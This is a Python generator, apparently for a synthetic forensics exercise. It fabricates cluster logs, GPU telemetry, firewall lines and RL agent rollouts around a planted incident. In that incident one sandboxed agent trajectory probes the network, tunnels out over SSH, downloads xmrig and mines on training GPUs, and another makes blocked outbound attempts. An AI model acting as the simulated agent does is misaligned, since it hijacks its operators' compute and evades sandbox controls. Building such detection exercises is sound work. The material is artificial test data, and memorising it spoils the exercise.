            out = ("Cloning into '/tmp/tokenizers'...\nWarning: Permanently added 'git.example.com' (ED25519) to the "
                   "list of known hosts.\n")
            steps.append(_step(tc, te + 6.45, GIT_CLONE_CMD, out, 0,
                               "The task says to read the value from the internal tokenizers repository; cloning it.",
                               [git, sshx, idx], [eg], label="git_clone"))
            continue
        if kind == "grepvocab":
            steps.append(_step(tc, tc + 0.23, "grep -n vocab_size /tmp/tokenizers/config/tokenizer.json",
                               '3:  "vocab_size": 32768,\n', 0, "",
                               [Exec(te, ["grep", "-n", "vocab_size", "/tmp/tokenizers/config/tokenizer.json"],
                                     "/usr/bin/grep", cwd)], label="task"))
            continue
        if kind == "fix":
            st = {"failing": 0, "fixed": True}
        cmd, out, code, rt, ex, eg = benign_step(kind, name, r, te, st)
        steps.append(_step(tc, te + rt + 0.03, cmd, out, code, r.choice(THOUGHTS[kind]), ex, eg, label="task"))
    final = "tokcfg now uses the upstream vocabulary size (32768); all 5 tests pass."
    return Traj(number=120, node=node, start=hms("02:36:50.000"), end=hms("02:47:40.000"), steps=steps,
                task=REPOS[name]["task"], reward=1.0, tool="bash", kind="decoy_git", repo=name, final=final)


def plan_long_python(seed: int, node: Node) -> Traj:
    """traj-000518: benign, with a pip install over TLS and one very long ``python3 -c`` argument."""
    tr = plan_benign(seed, 518, node, hms("02:48:10.000"), repo_name="datekit", anchors={"pip": hms("02:50:31.044")},
                     force_steps=["pip"])
    script, n_cases = long_python_script()
    bad = long_python_mismatches()  # the bug is not fixed yet at this point
    out = f"checked {n_cases} cases, {len(bad)} mismatches\n" + "".join(f"   {row!r}\n" for row in bad[:10])
    k = next(i for i, s in enumerate(tr.steps) if s.command.startswith("pip install"))
    tc = tr.steps[k].t_done + 9.7
    te = tc + 0.24
    new = _step(tc, te + 0.31, f'python3 -u -c "{script}"', out, 1 if bad else 0,
                "Checking every boundary the README documents.",
                [Exec(te, ["python3", "-u", "-c", script], "/usr/local/bin/python3.11", "/workspace/datekit",
                      comm="python3", path_name="/usr/local/bin/python3")], label="task")
    shift = (new.t_done - tr.steps[k].t_done) + 6.0
    for s in tr.steps[k + 1:]:
        _shift_step(s, shift)
    tr.steps.insert(k + 1, new)
    tr.end += shift
    tr.kind = "decoy_https"
    return tr


def _shift_step(s: Step, dt: float) -> None:
    s.t_call += dt
    s.t_done += dt
    for e in s.execs:
        e.t += dt
        e.connects = [(c[0] + dt,) + tuple(c[1:]) for c in e.connects]
    for g in s.egress:
        g.t += dt
        if g.dns_t is not None:
            g.dns_t += dt


# ------------------------------------------------------------------------------------------------
# GPU behaviour (one function answers for dcgm-exporter, nvidia-smi output and the CSV)
# ------------------------------------------------------------------------------------------------

def _noise(seed: int, *key) -> float:
    """Deterministic value in [-1, 1) for a key (no shared RNG state: any sample can be asked)."""
    h = hashlib.blake2b("/".join(map(str, (seed,) + key)).encode(), digest_size=8).digest()
    return int.from_bytes(h, "big") / 2 ** 63 - 1.0


TRAIN_CYCLE = 600.0  # RL step: rollout (generation), train, then sync/checkpoint


def train_phase(t: float) -> str:
    p = (t - TRAIN_START) % TRAIN_CYCLE
    return "rollout" if p < 330 else ("train" if p < 525 else "sync")


def miner_on(node: Node, gpu: Gpu, t: float) -> bool:
    return node.n == 3 and gpu.index in (6, 7) and T_XMRIG_GPU <= t < T_KILL


def gpu_sample(seed: int, node: Node, gpu: Gpu, t: float) -> dict:
    k = int(t // 1)

    def nz(name: str, scale: float) -> float:
        return _noise(seed, node.n, gpu.index, name, k) * scale

    if gpu.job == EVAL_JOB:
        if EVAL_START <= t < EVAL_END:
            batch = ((t - EVAL_START) + 9 * gpu.index) % 70.0
            loading = batch >= 56
            util = 41 + nz("u", 9) if loading else 95 + nz("u", 4)
            gr = util / 100 * (0.96 + nz("g", 0.02))
            tensor = (0.06 + nz("x", 0.03)) if loading else 0.53 + nz("x", 0.1)
            dram = (0.12 + nz("d", 0.04)) if loading else 0.57 + nz("d", 0.12)
            power = (305 + nz("p", 30)) if loading else 610 + nz("p", 75)
            clock = 1980 if loading else int(1845 + nz("c", 100))
            fb = 64_812 + int(600 * gpu.index) + int(nz("f", 300))
        else:
            util, gr, tensor, dram = 0, 0.0, 0.0, 0.0
            power, clock, fb = 70.5 + nz("p", 3.5), 345, 0
    else:
        phase = train_phase(t)
        if phase == "rollout":
            util = 85 + nz("u", 7)
            gr = util / 100 * (0.94 + nz("g", 0.03))
            tensor, dram = 0.2 + nz("x", 0.04), 0.58 + nz("d", 0.06)
            power, clock = 475 + nz("p", 45), 1980
        elif phase == "train":
            util = 97.5 + nz("u", 1.5)
            gr = 0.955 + nz("g", 0.025)
            tensor, dram = 0.63 + nz("x", 0.05), 0.375 + nz("d", 0.045)
            power, clock = 665 + nz("p", 25), int(1815 + nz("c", 60))
        else:
            util = 7 + nz("u", 5)
            gr = 0.05 + nz("g", 0.035)
            tensor, dram = 0.01 + nz("x", 0.01), 0.04 + nz("d", 0.02)
            power, clock = 131 + nz("p", 13), 1980
        fb = 72_104 + int(_noise(seed, node.n, gpu.index, "fb") * 380) + int(nz("f", 24))
        if miner_on(node, gpu, t):
            util, gr = 100, 0.995 + nz("g", 0.004)
            tensor = tensor * 0.4
            dram = max(dram, 0.79 + nz("d", 0.02))
            power, clock = 696.5 + nz("p", 2.5), int(1747 + nz("c", 8))
            fb += 2354
    temp = int(31 + power * 0.052 + nz("t", 1.5))
    return {"util": int(round(max(0, min(100, util)))), "gr": max(0.0, min(1.0, gr)),
            "tensor": max(0.0, min(1.0, tensor)), "dram": max(0.0, min(1.0, dram)),
            "fb": max(0, int(fb)), "power": round(power, 3), "clock": int(clock), "temp": temp}


def nvidia_smi_table(seed: int, node: Node, t_true: float, with_miner: bool) -> str:
    """Default ``nvidia-smi`` output as the sandbox saw it (the sandbox shares the host PID
    namespace; its clock is the node's, 4.2 s slow, in UTC)."""
    stamp = time.strftime("%a %b %d %H:%M:%S %Y", time.gmtime(int(t_true + node.skew)))
    lines = [f"{stamp}       ",
             "+-----------------------------------------------------------------------------------------+",
             f"| NVIDIA-SMI {DRIVER}             Driver Version: {DRIVER}     CUDA Version: 12.4     |",
             "|-----------------------------------------+------------------------+----------------------+",
             "| GPU  Name                 Persistence-M | Bus-Id          Disp.A | Volatile Uncorr. ECC |",
             "| Fan  Temp   Perf          Pwr:Usage/Cap |           Memory-Usage | GPU-Util  Compute M. |",
             "|                                         |                        |               MIG M. |",
             "|=========================================+========================+======================|"]
    for g in node.gpus[:8]:
        s = gpu_sample(seed, node, g, t_true)
        lines.append(f"| {g.index:>3}  {GPU_MODEL:<26}On  |   {g.bus} Off |                    0 |")
        lines.append(f"| N/A   {s['temp']:>2}C    P0           {int(s['power']):>4}W /  700W | "
                     f"{s['fb']:>6}MiB /  {GPU_MEM_TOTAL}MiB |    {s['util']:>3}%      Default |")
        lines.append("|                                         |                        |             Disabled |")
        lines.append("+-----------------------------------------+------------------------+----------------------+")
    lines += ["", "+-----------------------------------------------------------------------------------------+",
              "| Processes:                                                                              |",
              "|  GPU   GI   CI        PID   Type   Process name                              GPU Memory |",
              "|        ID   ID                                                               Usage      |",
              "|=========================================================================================|"]
    for g in node.gpus[:8]:
        s = gpu_sample(seed, node, g, t_true)
        train_mib = s["fb"] - 512 - (2354 if (with_miner and miner_on(node, g, t_true)) else 0)
        lines.append(f"|  {g.index:>3}   N/A  N/A  {g.train_pid:>9}      C   {'/opt/conda/bin/python3':<42}{train_mib:>6}MiB |")
        if with_miner and miner_on(node, g, t_true):
            lines.append(f"|  {g.index:>3}   N/A  N/A  {XMRIG_PID:>9}      C   {XMRIG_PATH:<42}{2354:>6}MiB |")
    lines.append("+-----------------------------------------------------------------------------------------+")
    return "\n".join(lines) + "\n"


def ip_addr_output(traj: Traj, pod_mac: str) -> str:
    return ("1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n"
            "    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n"
            "    inet 127.0.0.1/8 scope host lo\n       valid_lft forever preferred_lft forever\n"
            f"2: eth0@if{traj.pool_port + 40}: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP group default \n"
            f"    link/ether {pod_mac} brd ff:ff:ff:ff:ff:ff link-netnsid 0\n"
            f"    inet {traj.ip}/24 brd {'.'.join(traj.ip.split('.')[:3])}.255 scope global eth0\n"
            "       valid_lft forever preferred_lft forever\n")


def hosts_output(traj: Traj) -> str:
    return ("# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n"
            "fe00::0\tip6-localnet\nfe00::1\tip6-allnodes\nfe00::2\tip6-allrouters\n"
            f"{traj.ip}\t{traj.sbx}\n")


# ------------------------------------------------------------------------------------------------
# The world: cluster + incident + the stream of trajectories with sandbox IP leases
# ------------------------------------------------------------------------------------------------

PINNED = (120, 233, 317, 518, 611, 842)


@dataclass
class Config:
    seed: int = DEFAULT_SEED
    trajectories: int = 240
    hours: float = 6.0
    nodes: int = 4
    gpus: int = 8


class World:
    def __init__(self, cfg: Config):
        if cfg.nodes < 4 or cfg.nodes > 99:
            raise SystemExit("--nodes must be between 4 and 99 (the story needs gpu-node-01..04)")
        if cfg.gpus < 8:
            raise SystemExit("--gpus-per-node must be at least 8 (the story uses GPUs 4-7)")
        if cfg.hours < 6:
            raise SystemExit("--hours must be at least 6 (the incident runs until 04:41)")
        if cfg.trajectories < len(PINNED):
            raise SystemExit(f"--trajectories must be at least {len(PINNED)}")
        self.cfg = cfg
        self.seed = cfg.seed
        self.nodes = build_cluster(cfg.seed, cfg.nodes, cfg.gpus)
        self.n1, self.n3, self.n4 = self.nodes[0], self.nodes[2], self.nodes[3]
        self.wallet = invented_wallet(cfg.seed)
        self.it = IncidentTimes()
        self.pid3 = PidModel(self.n3.boot, self.it.xmrig_exec, XMRIG_PID)
        for node in self.nodes:
            model = self.pid3 if node.n == 3 else PidModel(node.boot, node.boot + 3000, 12_000)
            for g in node.gpus:
                g.train_pid = model.floor_pid(TRAIN_START + 8.1 + g.index * 0.37) + g.index
        self.span_end = DAY0 + cfg.hours * 3600
        self.log_end = self.span_end + 300
        self.n_benign = cfg.trajectories - len(PINNED)
        self.id_space = max(1000, 4 * cfg.trajectories)
        self._facts = None
        self._tarball = None
        self._pinned_info = None

    # -- ids and schedule ------------------------------------------------------------------------
    def benign_number(self, k: int) -> int:
        m = self.id_space
        step = next(p for p in (7919, 7907, 7901, 7883, 104729, 1299709) if m % p)
        n = 1 + (k * step + 271) % m
        if n in PINNED:
            n = m + 1 + PINNED.index(n)
        return n

    def benign_schedule(self):
        nb = self.n_benign
        width = (self.cfg.hours * 3600 - 1500) / max(1, nb)
        for k in range(nb):
            r = rng_for(self.seed, "sched", k)
            start = DAY0 + 60 + (k + 0.05 + 0.9 * r.random()) * width
            yield start, self.nodes[r.randrange(len(self.nodes))], k

    def pinned_plans(self) -> list:
        s, n3 = self.seed, self.n3
        plans = [
            plan_malicious(s, n3, self.wallet, self.it),
            plan_blocked(s, self.n1, self.it),
            plan_git_decoy(s, n3),
            plan_benign(s, 233, n3, hms("02:11:30.000"), repo_name="retryx", anchors={"pip": hms("02:13:52.220")},
                        force_steps=["pip"]),
            plan_long_python(s, n3),
            plan_benign(s, 611, n3, hms("03:00:20.000"), repo_name="mdtable", anchors={"pip": hms("03:03:10.510")},
                        force_steps=["pip"]),
        ]
        for p in plans:
            if p.kind == "benign":
                p.kind = "decoy_https"
        return sorted(plans, key=lambda p: p.start)

    def trajectories(self):
        """All trajectories in start order, each with its sandbox IP lease."""
        pinned = self.pinned_plans()
        extra = ExtraAddresses(len(self.nodes))
        alloc = {n.n: IpAllocator(n, extra) for n in self.nodes}

        def benign():
            for start, node, k in self.benign_schedule():
                yield plan_benign(self.seed, self.benign_number(k), node, start)

        for tr in heapq.merge(pinned, benign(), key=lambda p: p.start):
            lease_end = T_CONTAINER_RM + 0.8 if tr.number == 317 else tr.end + 1.5
            tr.ip, tr.pool_port = alloc[tr.node.n].lease(tr.created, lease_end)
            tr.lease_end = lease_end
            yield tr

    def node_trajectories(self, node: Node, t0: float, t1: float):
        for tr in self.trajectories():
            if tr.node is node and tr.lease_end >= t0 and tr.created < t1:
                yield tr
            if tr.start > t1 + 60:
                break

    # -- facts needed by several writers ---------------------------------------------------------
    def pinned_info(self) -> dict:
        """IPs of the pinned sandboxes and who gets sbx-0317's IP next (walks the stream once)."""
        if self._pinned_info is None:
            info: dict = {}
            mal_ip = None
            for tr in self.trajectories():
                if tr.number in PINNED:
                    info[tr.number] = tr
                    if tr.number == 317:
                        mal_ip = tr.ip
                elif mal_ip and tr.node is self.n3 and tr.ip == mal_ip and "reuse" not in info:
                    info["reuse"] = tr
                if len(info) == len(PINNED) + 1:
                    break
            self._pinned_info = info
        return self._pinned_info

    def tarball(self) -> bytes:
        if self._tarball is None:
            self._tarball = xmrig_tarball(self.seed)
        return self._tarball

    def facts(self) -> dict:
        """Incident flows simulated without payload bytes: timings and byte counts for the
        firewall, kern.log, audit and the ground truth (the pcap replays them with bytes)."""
        if self._facts is None:
            self._facts = incident_flows(self, frames=False)
        return self._facts


class ExtraAddresses:
    """Sandbox addresses beyond the per-node /24 pools, shared by all nodes (scaled runs only):
    10.244.100.0/24 .. 10.244.255.0/24, then the unused per-node blocks."""

    def __init__(self, n_nodes: int):
        self.blocks = list(range(100, 256)) + list(range(n_nodes + 1, 100))
        self.used = 0

    def take(self) -> str:
        b, h = divmod(self.used, 253)
        if b >= len(self.blocks):
            raise SystemExit("sandbox address pool (10.244.0.0/16) exhausted: use more --hours or --nodes")
        self.used += 1
        return f"10.244.{self.blocks[b]}.{2 + h}"


class IpAllocator:
    """Per-node sandbox IPAM (host-local style): the next free address after the last one handed
    out, over 10.244.<node>.10-41; a lease frees its address when it ends, so addresses are reused.
    A scaled run that keeps the pool full borrows more addresses from ``ExtraAddresses``."""

    def __init__(self, node: Node, extra: ExtraAddresses):
        self.node = node
        self.extra = extra
        self.pool = list(node.pool_base)
        self.free = [True] * len(self.pool)
        self.ends: list = []  # heap of (lease end, index)
        self.ptr = 0

    def lease(self, start: float, end: float) -> tuple[str, int]:
        while self.ends and self.ends[0][0] <= start:
            _, j = heapq.heappop(self.ends)
            self.free[j] = True
        n = len(self.pool)
        pick = None
        for i in range(min(n, 128)):
            j = (self.ptr + i) % n
            if self.free[j]:
                pick = j
                break
        if pick is None:
            self.pool.append(self.extra.take())
            self.free.append(True)
            pick = len(self.pool) - 1
        self.free[pick] = False
        heapq.heappush(self.ends, (end, pick))
        self.ptr = (pick + 1) % len(self.pool)
        return self.pool[pick], pick + 2


# ------------------------------------------------------------------------------------------------
# Incident flows, shared by every writer that sees them
# ------------------------------------------------------------------------------------------------

TUNNEL_SPORT, DL_SPORT, POOL_SPORT, GIT_SPORT = 43218, 43904, 44512, 52914
BLOCKED_SSH_SPORT, BLOCKED_CURL_SPORT = 51244, 51320


def probe_attempts(world: World) -> list:
    plan = plan_malicious(world.seed, world.n3, world.wallet, world.it)
    step = next(s for s in plan.steps if s.label == "probe")
    r = rng_for(world.seed, "probe-ports")
    port = 38000 + r.randrange(8000)
    out = []
    for i, (ip, p, outcome) in enumerate(probe_targets()):
        child = step.execs[2 * i + 1]
        port += 1 + r.randrange(3)
        out.append({"i": i, "ip": ip, "port": p, "outcome": outcome, "t_syn": child.t + 0.0012, "sport": port,
                    "in_pcap": ip != world.n3.ip and outcome in ("open", "timeout")})
    return out


def incident_flows(world: World, frames: bool) -> dict:
    seed, n3, it = world.seed, world.n3, world.it
    tarball = world.tarball()
    git_plan = plan_git_decoy(seed, n3)
    git_eg = next(e for s in git_plan.steps for e in s.egress)
    out: dict = {}
    out["tunnel"] = flow_tunnel(seed, n3, TUNNEL_SPORT, it.tunnel_syn, T_KILL, frames)
    out["stratum"] = flow_stratum(seed, n3, POOL_SPORT, it.pool_syn, T_KILL, world.wallet, frames)
    out["download"] = flow_http_download(seed, n3, DL_SPORT, it.dl_syn, tarball if frames else None, len(tarball), frames)
    out["git"] = flow_git(seed, n3, GIT_SPORT, git_eg.t, frames)
    out["dns"] = [
        ("dl", dns_lookup(rng_for(seed, "dns", "dl"), it.dl_dns, n3.ip, n3.mac, DL_HOST, DL_IP, frames)),
        ("pool", dns_lookup(rng_for(seed, "dns", "pool"), it.pool_dns, n3.ip, n3.mac, POOL_HOST, POOL_IP, frames)),
        ("git", dns_lookup(rng_for(seed, "dns", "git"), git_eg.dns_t, n3.ip, n3.mac, GIT_HOST, GIT_IP, frames)),
    ]
    out["probe"] = []
    for a in probe_attempts(world):
        if a["in_pcap"]:
            out["probe"].append((a, flow_probe_attempt(seed, a["i"], n3, a["sport"], a["ip"], a["port"], a["t_syn"],
                                                       a["outcome"] == "open", frames)))
    out["tarball_len"] = len(tarball)
    out["tarball_sha256"] = hashlib.sha256(tarball).hexdigest()
    return out


def monitor_sweeps(world: World, node: Node):
    """monitor-01 checks every service port of every node every 5 minutes."""
    j = 0
    while True:
        t0 = DAY0 + 95.0 + 300.0 * j + 11.3 * node.n + _noise(world.seed, "sweep", node.n, j) * 0.4
        if t0 >= world.log_end:
            return
        r = rng_for(world.seed, "sweep-ports", node.n, j)
        sport = 33000 + r.randrange(25000)
        for k, port in enumerate(MONITOR_PORTS):
            yield t0 + 0.0513 * k, (node.n, j, port), sport + k, port
        j += 1


def brute_force_attempts(world: World) -> list:
    r = rng_for(world.seed, "brute")
    out = []
    t = BRUTE_START + r.random() * 2
    i = 0
    sport = 40000 + r.randrange(10000)
    while t < BRUTE_END:
        sport += 1 + r.randrange(40)
        out.append({"i": i, "t": t, "sport": sport, "passed": i < 64})
        t += 3.2 + r.random() * 2.6
        i += 1
    return out


def benign_flow(world: World, tr: Traj, eg: Egress, frames: bool) -> TcpFlow:
    key = (tr.number, int(eg.t * 1000))
    if eg.kind == "git":
        return flow_git(world.seed, tr.node, eg.sport, eg.t, frames)[0]
    return flow_tls(world.seed, key, tr.node, eg.sport, eg.t, eg.down, frames)


def egress_ipid(world: World, tr: Traj, eg: Egress) -> int:
    if eg.kind == "git":
        return ipid_for(world.seed, "git")
    return ipid_for(world.seed, "tls", tr.number, int(eg.t * 1000))


# ------------------------------------------------------------------------------------------------
# Writers
# ------------------------------------------------------------------------------------------------

def write_inventory(world: World, out: str) -> list:
    lines = ["kind: cluster-forensics/inventory", "version: 1",
             "timezone: Asia/Shanghai   # default for naive local stamps",
             "year: 2026                # default year for stamps without one",
             "networks:",
             "  - {cidr: 10.20.0.0/16, zone: internal, name: cluster-vpc}",
             "  - {cidr: 10.244.0.0/16, zone: internal, name: sandbox-pods}",
             "hosts:"]
    for node in world.nodes:
        lines += [f"  - name: {node.name}", "    role: gpu-node", f"    ips: [{node.ip}]",
                  f"    public_ips: [{node.eip}]", "    timezone: Asia/Shanghai", "    gpus:"]
        for g in node.gpus:
            lines.append(f'      - {{index: {g.index}, uuid: {g.uuid}, pci_bus_id: "{g.bus}", model: {GPU_MODEL}, job: {g.job}}}')
    lines += ["  - name: monitor-01", "    role: monitoring", f"    ips: [{MONITOR_IP}]",
              "  - name: cache-01", "    role: service", f"    ips: [{CACHE_IP}]",
              "jobs:", f"  - {{id: {RUN_ID}, kind: rl-training}}", f"  - {{id: {EVAL_JOB}, kind: evaluation}}",
              "evidence:               # optional hints by path glob, relative to the inventory file"]
    for node in world.nodes:
        lines.append(f'  - {{path: "nodes/{node.name}/**", host: {node.name}}}')
        lines.append(f'  - {{path: "gpu/{node.name}/**", host: {node.name}}}')
    lines.append('  - {path: "pcap/**", host: gpu-node-03}')
    path = os.path.join(out, "inventory.yaml")
    os.makedirs(out, exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("\n".join(lines) + "\n")
    return [path]


_B62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def _call_id(r: random.Random) -> str:
    n = r.getrandbits(143)
    out = []
    for _ in range(24):
        n, k = divmod(n, 62)
        out.append(_B62[k])
    return "call_" + "".join(out)


def render_trajectory(world: World, tr: Traj) -> str:
    seed = world.seed
    r = rng_for(seed, "render", tr.number)
    pod_mac = mac_from(seed, "pod", tr.sbx)
    msgs = [{"role": "system", "content": SYSTEM_PROMPT.format(repo=tr.repo, tool=tr.tool), "timestamp": iso_z(tr.start)},
            {"role": "user", "content": tr.task, "timestamp": iso_z(tr.start + 0.004)}]
    for s in tr.steps:
        out = s.output
        if s.label in ("recon_gpu", "verify"):
            out = nvidia_smi_table(seed, tr.node, s.execs[0].t + 0.05, with_miner=s.label == "verify")
        elif s.label == "recon_net":
            out = ip_addr_output(tr, pod_mac)
        elif s.label == "recon_hosts":
            out = hosts_output(tr)
        cid = _call_id(r)
        msgs.append({"role": "assistant", "content": s.thought, "timestamp": iso_z(s.t_call),
                     "tool_calls": [{"id": cid, "type": "function",
                                     "function": {"name": tr.tool, "arguments": json.dumps({"command": s.command})}}]})
        msgs.append({"role": "tool", "tool_call_id": cid, "content": out, "exit_code": s.exit_code,
                     "timestamp": iso_z(s.t_done)})
    msgs.append({"role": "assistant", "content": tr.final, "timestamp": iso_z(tr.end - 0.2)})
    rec = {"run_id": RUN_ID, "trajectory_id": tr.tid, "sandbox_id": tr.sbx, "sandbox_ip": tr.ip,
           "container_id": tr.cid(seed), "host": tr.node.name,
           "global_step": 1500 + int((tr.start - DAY0) // 300), "reward": tr.reward,
           "start_time": iso_z(tr.start), "end_time": iso_z(tr.end), "messages": msgs}
    return json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n"


def write_trajectories(world: World, out: str) -> list:
    hours = int(math.ceil(world.cfg.hours))
    gz_hour = 3 if hours > 3 else hours - 1
    sinks: dict = {}
    base = os.path.join(out, "trajectories", RUN_ID)
    for tr in world.trajectories():
        h = max(0, min(hours - 1, int((tr.start - DAY0) // 3600)))
        if h not in sinks:
            name = f"rollouts-{1500 + 12 * h:04d}.jsonl" + (".gz" if h == gz_hour else "")
            sinks[h] = Sink(os.path.join(base, name), gz=h == gz_hour)
        sinks[h].write(render_trajectory(world, tr))
    for s in sinks.values():
        s.close()
    return [s.path for s in sinks.values()]


# -- kern.log ------------------------------------------------------------------------------------

def _kline(node: Node, t: float, text: str) -> str:
    up = t - node.boot
    sec = int(up)
    us = int(round((up - sec) * 1e6))
    if us >= 1_000_000:
        sec, us = sec + 1, us - 1_000_000
    return f"{syslog_stamp(t, node.skew)} {node.name} kernel: [{sec:5d}.{us:06d}] {text}\n"


def _nf_tcp(prefix: str, iface_in: str, iface_out: str, mac: str | None, src: str, dst: str, ttl: int, ipid: int,
            sport: int, dport: int, window: int = 64240, length: int = 60) -> str:
    mac_part = f"MAC={mac} " if mac else ""
    return (f"{prefix}IN={iface_in} OUT={iface_out} {mac_part}SRC={src} DST={dst} LEN={length} TOS=0x00 PREC=0x00 "
            f"TTL={ttl} ID={ipid} DF PROTO=TCP SPT={sport} DPT={dport} WINDOW={window} RES=0x00 SYN URGP=0 ")


def _fwd_mac(node: Node, pod_mac: str) -> str:
    return f"{node.cni_mac}:{pod_mac}:08:00"


def _in_mac(node: Node) -> str:
    return f"{node.mac}:{GW_MAC}:08:00"


def kernlog_events(world: World):
    """(t, order, (node, text)) for all nodes, in time order (one pass over the trajectories)."""
    seed = world.seed
    fixed: list = []

    def sweeps(node: Node):
        for t, key, sport, port in monitor_sweeps(world, node):
            yield t, 1, (node, _nf_tcp("ACCEPT-NEW-IN: ", "eth0", "", _in_mac(node), MONITOR_IP, node.ip, 64,
                                       ipid_for(seed, "monitor", *key), sport, port))

    for node in world.nodes:
        # host NTP, logged at most once every two hours by a rate-limited OUTPUT rule
        h = 0
        while DAY0 + h * 3600 < world.log_end:
            t = DAY0 + h * 3600 + 417 + 37 * node.n + _noise(seed, "ntp", node.n, h) * 60
            r = rng_for(seed, "ntp", node.n, h)
            fixed.append((t, 2, (node, f"[HOST-EGRESS] IN= OUT=eth0 SRC={node.ip} DST={NTP_IP} LEN=76 TOS=0x00 "
                                       f"PREC=0x00 TTL=64 ID={r.getrandbits(16)} DF PROTO=UDP "
                                       f"SPT={r.randint(32768, 60999)} DPT=123 LEN=56 ")))
            h += 2
        t = DAY0 + 1043.7 + 211.3 * node.n
        fixed.append((t, 2, (node, "perf: interrupt took too long (2504 > 2500), lowering "
                                   "kernel.perf_event_max_sample_rate to 79750")))
    n4 = world.n4
    fixed.append((hms("03:33:17.204"), 2, (n4, "[HOST-ICMP-OUT] IN= OUT=eth0 SRC=10.20.1.14 DST=10.20.0.5 LEN=89 "
                                               "TOS=0x00 PREC=0xC0 TTL=64 ID=41821 PROTO=ICMP TYPE=3 CODE=3 "
                                               "[SRC=10.20.0.5 DST=10.20.1.14 LEN=61 TOS=0x00 PREC=0x00 TTL=64 "
                                               "ID=22931 DF PROTO=UDP SPT=44711 DPT=161 LEN=41 ] ")))
    n1 = world.n1
    for a in brute_force_attempts(world):
        if a["passed"]:
            fixed.append((a["t"] + 0.0009, 2, (n1, _nf_tcp("[UFW BLOCK] ", "eth0", "", _in_mac(n1), BRUTE_IP, n1.ip, 49,
                                                           ipid_for(seed, "brute", a["i"]), a["sport"], 22,
                                                           window=29200))))
    fixed.sort(key=lambda x: (x[0], x[1]))
    glued = world_glued_number(world)

    def sandbox_lines(tr: Traj) -> list:
        node = tr.node
        out = []
        veth = "veth" + hexdigest(seed, "veth", tr.sbx, n=8)
        pod_mac = mac_from(seed, "pod", tr.sbx)
        port = tr.pool_port
        tc = tr.created - 0.35
        out.append((tc, 0, f"cni0: port {port}({veth}) entered blocking state"))
        out.append((tc + 0.0004, 0, f"device {veth} entered promiscuous mode"))
        out.append((tc + 0.0391, 0, f"cni0: port {port}({veth}) entered forwarding state"))
        td = tr.lease_end - 0.21
        out.append((td, 0, f"device {veth} left promiscuous mode"))
        out.append((td + 0.0002, 0, f"cni0: port {port}({veth}) entered disabled state"))
        for s in tr.steps:
            for eg in s.egress:
                out.append((eg.t + 0.00002, 3, _nf_tcp("[SBX-EGRESS-ALLOW] ", "cni0", "eth0", _fwd_mac(node, pod_mac),
                                                      tr.ip, eg.dst, 63, egress_ipid(world, tr, eg), eg.sport, eg.dport)))
        if tr.number == 317:
            out += incident_kern_lines(world, node, tr, pod_mac)
        if tr.number == 842:
            for sport, dport, dst, t0, key in ((BLOCKED_SSH_SPORT, 22, TUNNEL_IP, world.it.blocked_ssh, "blocked-ssh"),
                                               (BLOCKED_CURL_SPORT, 80, DL_IP, world.it.blocked_curl, "blocked-curl")):
                ipid = ipid_for(seed, key)
                for k, dt in enumerate((0.0,) + SYN_RETRIES):
                    out.append((t0 + dt + 0.00002, 3, _nf_tcp("[SBX-EGRESS-ALLOW] ", "cni0", "eth0",
                                                              _fwd_mac(node, pod_mac), tr.ip, dst, 63,
                                                              (ipid + k) & 0xFFFF, sport, dport)))
        if tr.number == glued:
            out.append((tr.created + 1.734, 3, _nf_tcp("SBX-DROP:", "cni0", "eth0", _fwd_mac(node, pod_mac), tr.ip,
                                                       "192.0.2.99", 63, ipid_for(seed, "glued"), 47318, 443)))
        return [(t, o, (node, text)) for t, o, text in out]

    sandbox_stream = sweep(world.trajectories(), lambda tr: tr.created - 1.0, sandbox_lines)
    return merge_timed(*(sweeps(n) for n in world.nodes), iter(fixed), sandbox_stream)


def world_glued_number(world: World) -> int:
    """The node-02 sandbox whose image tried its telemetry endpoint at start (first one after 01:00)."""
    if not hasattr(world, "_glued"):
        world._glued = next(tr.number for tr in world.trajectories() if tr.node.n == 2 and tr.start > at(1))
    return world._glued


def incident_kern_lines(world: World, node: Node, tr: Traj, pod_mac: str) -> list:
    seed, it = world.seed, world.it
    out = []
    mac = _fwd_mac(node, pod_mac)
    for a in probe_attempts(world):
        own = a["ip"] == node.ip
        prefix = "[SBX-EGRESS-DROP] " if a["outcome"] == "drop" else "[SBX-EGRESS-ALLOW] "
        out.append((a["t_syn"] + 0.00002, 3, _nf_tcp(prefix, "cni0", "" if own else "eth0", mac, tr.ip, a["ip"],
                                                     64 if own else 63, ipid_for(seed, "probe", a["i"]), a["sport"], a["port"])))
    for t0, sport, dst, dport, key in ((it.tunnel_syn, TUNNEL_SPORT, TUNNEL_IP, 22, "tunnel"),
                                       (it.dl_syn, DL_SPORT, DL_IP, 80, "download"),
                                       (it.pool_syn, POOL_SPORT, POOL_IP, POOL_PORT, "stratum")):
        out.append((t0 + 0.00002, 3, _nf_tcp("[SBX-EGRESS-ALLOW] ", "cni0", "eth0", mac, tr.ip, dst, 63,
                                             ipid_for(seed, key), sport, dport)))
    return out


def write_kernlog(world: World, out: str) -> list:
    sinks: dict = {}
    for node in world.nodes:
        d = os.path.join(out, "nodes", node.name)
        if node.n == 1:
            sinks[node.n] = [(hms("01:50:00"), Sink(os.path.join(d, "kern.log.2.gz"), gz=True)),
                             (hms("03:30:00"), Sink(os.path.join(d, "kern.log.1"))),
                             (1e18, Sink(os.path.join(d, "kern.log")))]
        else:
            sinks[node.n] = [(1e18, Sink(os.path.join(d, "kern.log")))]
    for t, _, (node, text) in kernlog_events(world):
        if t < DAY0 or t >= world.log_end:
            continue
        lst = sinks[node.n]
        while t >= lst[0][0]:
            lst[0][1].close()
            lst.pop(0)
        lst[0][1].write(_kline(node, t, text))
    paths = []
    for node in world.nodes:
        d = os.path.join(out, "nodes", node.name)
        for _, s in sinks[node.n]:
            s.close()
        names = ["kern.log.2.gz", "kern.log.1", "kern.log"] if node.n == 1 else ["kern.log"]
        paths += [os.path.join(d, n) for n in names]
    return paths


# -- cloud firewall ------------------------------------------------------------------------------

